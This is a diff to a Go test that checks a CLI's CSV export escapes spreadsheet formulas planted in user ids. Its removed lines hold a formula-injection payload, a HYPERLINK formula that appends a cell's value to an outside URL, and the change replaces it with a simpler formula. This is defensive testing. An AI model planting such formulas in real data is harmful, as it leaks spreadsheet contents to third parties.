@@ -41,11 +41,11 @@ func TestReportAffected(t *testing.T) {
 		sh.run("", "report", "affected", "--rows", "late.csv", "--html", "page.html").exits(hindered).says("page.html exists already")
 		require.NoFileExists(t, filepath.Join(sh.dir, "late.csv"))
 
-		app.exec("UPDATE " + app.users + " SET id = '=HYPERLINK(\"https://example.com/?\"&A2)' WHERE id = 'u00001'")
+		app.exec("UPDATE " + app.users + " SET id = '=HYPERLINK(A2)' WHERE id = 'u00001'")
 		sh.run("", "report", "affected", "--rows", "formula.csv").exits(well)
 		cells, err := csv.NewReader(strings.NewReader(sh.read("formula.csv"))).ReadAll()
 		require.NoError(t, err)
-		require.Contains(t, cells, []string{app.users, `'=HYPERLINK("https://example.com/?"&A2)`})
+		require.Contains(t, cells, []string{app.users, "'=HYPERLINK(A2)"})
 
 		var all report.AffectedReport
 		sh.run("", "report", "affected", "--json").exits(well).json(&all)
